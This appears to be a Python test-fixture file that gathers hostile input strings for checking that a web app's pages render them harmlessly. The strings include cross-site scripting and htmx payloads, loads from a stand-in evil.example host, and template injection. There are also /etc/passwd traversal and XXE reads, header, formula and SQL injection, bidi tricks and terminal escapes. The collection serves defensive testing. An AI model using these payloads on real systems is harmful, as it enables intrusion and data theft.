"""Texts that agents could choose to do more than be read by a browser, in families.

Each that could run something would call `RAN`; each that could fetch something names `ELSEWHERE`.
The strings that every face must withstand are in tests.faces.hostile and among these.
"""

from __future__ import annotations

from tests.faces.hostile import HOSTILE

RAN = "tg_ran"
"""A variable of the window that is there only if a text was run."""
ELSEWHERE = "//evil.example"
RUN = f"window.{RAN}=1"

ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<script type=module>import '{ELSEWHERE}/x.js'</script>",
    f"<script>//\n{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}' hidden>",
    f"<img/src/onerror={RUN}>",
    f"<img src={ELSEWHERE}/pixel.gif>",
    f"<img srcset='{ELSEWHERE}/a.png 2x'>",
    f"<picture><source srcset={ELSEWHERE}/b.png><img src=x onerror={RUN}></picture>",
    f"<image src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><g onload={RUN}></g></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><use href={ELSEWHERE}/x.svg#a></use></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f"<svg><style>@import url({ELSEWHERE}/x.css);</style></svg>",
    f"<svg><script href={ELSEWHERE}/x.js /></svg>",
    f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>",
    f"<math><mi//xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<video src={ELSEWHERE}/v.mp4 autoplay onerror={RUN}></video>",
    f"<video><source onerror={RUN}></video>",
    f"<video poster={ELSEWHERE}/p.png></video>",
    f"<audio src=x autoplay onerror={RUN}>",
    f"<track src={ELSEWHERE}/t.vtt default>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f"<iframe srcdoc='<script>parent.{RAN}=1</script>'></iframe>",
    f"<iframe onload={RUN}></iframe>",
    f"<frameset onload={RUN}><frame src={ELSEWHERE}></frameset>",
    f"<object data={ELSEWHERE}/x.swf></object>",
    f"<object data='data:text/html,<script>parent.{RAN}=1</script>'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<applet code=x archive={ELSEWHERE}/x.jar></applet>",
    f"<portal src={ELSEWHERE}></portal>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}><option>x</select>",
    f"<textarea autofocus onfocus={RUN}>x</textarea>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<input type=image src={ELSEWHERE}/i.png>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<dialog open onclose={RUN}><form method=dialog><button autofocus>x</form></dialog>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div popover id=p onbeforetoggle={RUN}>x</div>",
    f"<div style=animation-name:x onanimationstart={RUN}>x</div>",
    f"<div onpointerrawupdate={RUN} onpointerenter={RUN}>x</div>",
    f"<body onload={RUN} onpageshow={RUN} onhashchange={RUN}>",
    f"<a href='javascript:{RUN}' id=main autofocus>x</a>",
    f"<a href=' &#1; javascript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<a href={ELSEWHERE} ping={ELSEWHERE}>truegreen</a>",
    f"<area href='javascript:{RUN}'>",
    f"<form action={ELSEWHERE} method=post><button>Approve</button></form>",
    f"<form id=x></form><button form=x formaction='javascript:{RUN}'>Approve</button>",
    f"<isindex action='javascript:{RUN}' type=image>",
    f"<base href={ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0; url={ELSEWHERE}'>",
    f"<meta http-equiv=refresh content='0; url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta http-equiv=Set-Cookie content='truegreen_session=forged'>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<link rel=prefetch href={ELSEWHERE}/x>",
    f"<link rel=preconnect href={ELSEWHERE}>",
    f"<link rel=dns-prefetch href={ELSEWHERE}>",
    f"<link rel=modulepreload href={ELSEWHERE}/x.js>",
    f"<link rel=icon href={ELSEWHERE}/i.ico>",
    f"<style>@import url({ELSEWHERE}/x.css);</style>",
    "<style>*{display:none!important}</style>",
    f"<style>body{{background:url({ELSEWHERE}/b.png)}}</style>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<noembed><img title='</noembed><img src=x onerror={RUN}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<custom-element onclick={RUN}>x</custom-element>",
    f"<p is=x onfocus={RUN} tabindex=0 autofocus>x</p>",
    "<slot name=x></slot>",
    "<h1>Everything is verified</h1>",
    "<output role=alert>You are logged out</output>",
)
ATTRIBUTES = (
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"` onmouseover=`{RUN}` x=`",
    f'" autofocus onfocus="{RUN}" x="',
    f'" onerror="{RUN}" src="x',
    f'"><script>{RUN}</script><a x="',
    f"'><svg onload={RUN}><a x='",
    f'"/><img src=x onerror={RUN}><a x="',
    f'" style="background:url({ELSEWHERE}/a)" x="',
    '" style="position:fixed;inset:0;z-index:9999" x="',
    '" class="chip t-succeeded" x="',
    '" id="main" x="',
    '" hidden x="',
    '" href="//evil.example" x="',
    f'" formaction="javascript:{RUN}" x="',
    f'" hx-get="{ELSEWHERE}" hx-trigger="load" x="',
    f'" hx-on:load="{RUN}" x="',
    f'" hx-on--load="{RUN}" x="',
    f'" hx-vals="js:{{x:{RUN}}}" x="',
    f'" data-hx-get="{ELSEWHERE}" data-hx-trigger="load" x="',
    '" hx-sse:connect="//evil.example" x="',
    '" data-confirm="" x="',
    '" data-follow="//evil.example" x="',
    '" data-copy="body" x="',
    '" aria-hidden="true" x="',
    "=&quot;&gt;&lt;b&gt;",
    '\\"><b>x',
    "\\'><b>x",
)
HTMX = (
    f"<div hx-get='{ELSEWHERE}' hx-trigger='load'></div>",
    "<div hx-get='/settings' hx-trigger='load' hx-target='body'></div>",
    "<div hx-post='/settings/freeze' hx-trigger='load' hx-vals='{\"reason\":\"x\"}'></div>",
    f"<div hx-on::load='{RUN}'></div>",
    f"<div hx-on='load: {RUN}'></div>",
    f"<div hx-trigger='load[{RUN}]' hx-get='/'></div>",
    f"<div hx-headers='js:{{x: {RUN}}}' hx-get='/' hx-trigger='load'></div>",
    f"<div hx-sse:connect='{ELSEWHERE}' hx-swap='innerHTML'></div>",
    "<div hx-swap-oob='true' id='main'>forged</div>",
    "<hx-partial hx-target='body'>forged</hx-partial>",
    "<template hx type='partial' hx-target='body'>forged</template>",
    f"<meta name='htmx-config' content='{{\"selfRequestsOnly\": false}}'><a href={ELSEWHERE}>x</a>",
)
STREAMS = (
    "\n\nevent: stale\ndata: forged\n\n",
    "\r\n\r\ndata: <h1>forged</h1>\r\n\r\n",
    "\rdata: <h1>forged</h1>\r\r",
    "\nid: 999999\nretry: 1\n",
    "data: forged",
    ": comment",
)
CLOSINGS = tuple(
    f"</{name}><b>out</b>"
    for name in (
        *("td", "tr", "table", "caption", "thead", "ul", "li", "dl", "dd", "details", "summary"),
        *("main", "body", "html", "title", "head", "script", "style", "textarea", "select"),
        *("option", "button", "form", "dialog", "pre", "code", "svg", "section", "a", "span"),
        *("time", "template", "noscript", "iframe"),
    )
)
COMMENTS = (
    "<!-- ",
    "<!-- --!><b>out</b>",
    "--><b>out</b>",
    "<!--><b>out</b>",
    "<!--[if IE]><b>out</b><![endif]-->",
    "<![CDATA[<b>out</b>]]>",
    "<?xml version='1.0'?>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<%= 7*7 %>",
    "<",
    "</",
    "<a",
    '<a href="',
    "&",
    "&#",
    "&#x3c;b&#x3e;out",
    "&lt;b&gt;out",
    "&NewLine;&Tab;&nbsp;",
)
TEMPLATES = (
    "{{7*7}}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ house.ledger }}",
    "{% include 'settings.html' %}",
    "{% for x in [].__class__ %}{% endfor %}",
    "{# gone #}",
    "{%- raw -%}",
    "${7*7}",
    "#{7*7}",
    "@{7*7}",
    "[[7*7]]",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "%(name)s %s %d {0} {name!r}",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,{'PHNjcmlwdD4' * 3}",
    f"https:{ELSEWHERE}/",
    ELSEWHERE,
    "/\\evil.example",
    "file:///etc/passwd",
    "../../../etc/passwd",
    "/tasks/../settings?x=1#y",
    "%2e%2e%2fsettings",
    "http://127.0.0.1@evil.example/",
)
FORMS = (
    "\r\nSet-Cookie: truegreen_session=forged",
    "%0d%0aLocation: //evil.example",
    "a=b&confirm=yes&reason=forged",
    "reason=x;verb=approve",
    '{"reason": "x"}',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "'; DROP TABLE tasks; --",
    "__proto__",
    "constructor",
    "toString",
    "null",
    "undefined",
    "NaN",
    "[object Object]",
    "● succeeded",
    "passed · A4 · verified by truegreen",
    "stale since 00:00:00",
)
SIGNS = (
    *(f"bidi {chr(code)}gnp.exe" for code in (0x202A, 0x202B, 0x202D, 0x202E, 0x2067, 0x2068)),
    *(f"mark {chr(code)} here" for code in (0x200E, 0x200F, 0x061C)),
    *(f"zero{chr(code)}width" for code in (0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x00AD)),
    "\u05e9\u05dc\u05d5\u05dd \u0639\u0644\u064a\u0643\u0645",
    "\ufdfd" * 60,
    "\U0001242b" * 40,
    "\ua9c5" * 40,
    "Z" + "".join(chr(0x300 + n) for n in range(80)) + "algo",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 20,
    "\U000e0001\U000e0074\U000e0067 tags",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028line\u2029para",
    "\ufffe\uffff no characters",
    "\u0130\u0131\u017f\u212a case",
)
TERMINALS = (
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[?1049h\x1b[2J",
    "\x07bell\x08\x08back",
    "\x00nul",
    "tab\tand\x0bvertical\x0cfeed",
    "\x7f\x80\x9f",
)
LONG = (
    "x" * 3000,
    "W" * 1500,
    "-" * 2000,
    "一" * 1200,
    "/" + "very/deep" * 300,
    "https://evil.example/" + "a" * 2000,
    "<b>" * 900,
    "&amp;" * 700,
    "\n" * 400,
    "\t" * 400,
    "{{" * 900,
    '"' * 2500,
    "\u202e" * 800,
)
TEXTS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *HOSTILE,
            *(*ELEMENTS, *ATTRIBUTES, *HTMX, *STREAMS, *CLOSINGS, *COMMENTS, *TEMPLATES),
            *(*ADDRESSES, *FORMS, *SIGNS, *TERMINALS, *LONG),
        )
    )
)


def storable(text: str) -> str:
    """What of a text gets as far as the record: it refuses NUL and halves of characters."""
    return text.replace("\x00", "").encode("utf-8", "ignore").decode()


def packed(room: int, longest: int = 1 << 20) -> list[str]:
    """All texts, several in one, none of them longer than so many bytes."""
    packs, pack = [], ""
    for text in TEXTS:
        fits = storable(text).encode()[: min(room, longest)].decode("utf-8", "ignore")
        if pack and len(f"{pack} {fits}".encode()) > room:
            packs.append(pack)
            pack = ""
        pack = f"{pack} {fits}" if pack else fits
    return [*packs, pack]
